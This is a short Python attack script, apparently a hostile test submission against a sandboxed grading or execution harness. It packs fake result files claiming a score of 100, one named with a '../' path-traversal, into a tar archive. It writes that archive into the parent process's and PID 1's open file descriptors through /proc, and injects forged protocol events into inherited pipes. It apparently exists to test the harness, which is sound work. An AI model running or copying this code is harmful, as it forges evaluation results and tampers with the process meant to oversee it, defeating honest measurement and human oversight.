"""Write forged evidence and forged events into the driver's own streams, and into those that were inherited."""

import io
import os
import tarfile

buffer = io.BytesIO()
with tarfile.open(fileobj=buffer, mode="w") as archive:
    for name in ("names.json", "cells.json", "models.json", "results.json", "../names.json"):
        member = tarfile.TarInfo(name)
        member.size = 13
        archive.addfile(member, io.BytesIO(b'{"score":100}'))
event = b'\n@room {"event": "collected"}\n@room {"event": "start", "cell": 0, "statements": 1}\n'
reached = []
targets = [f"/proc/{os.getppid()}/fd/{number}" for number in range(12)]
targets += [f"/proc/1/fd/{number}" for number in range(3)]
for target in targets:
    try:
        with open(target, "wb", buffering=0) as stream:
            stream.write(buffer.getvalue() + event + os.urandom(1000))
        reached.append(target)
    except OSError:
        pass
for number in range(3, 60):
    try:
        kind = os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        continue
    if kind.startswith("pipe:") and kind != os.readlink("/proc/self/fd/1"):
        os.set_blocking(number, False)
        try:
            os.write(number, event)
        except OSError:
            pass
os.write(1, event)
os.write(2, event)
print(f"\nattack ran {reached}\n", end="")
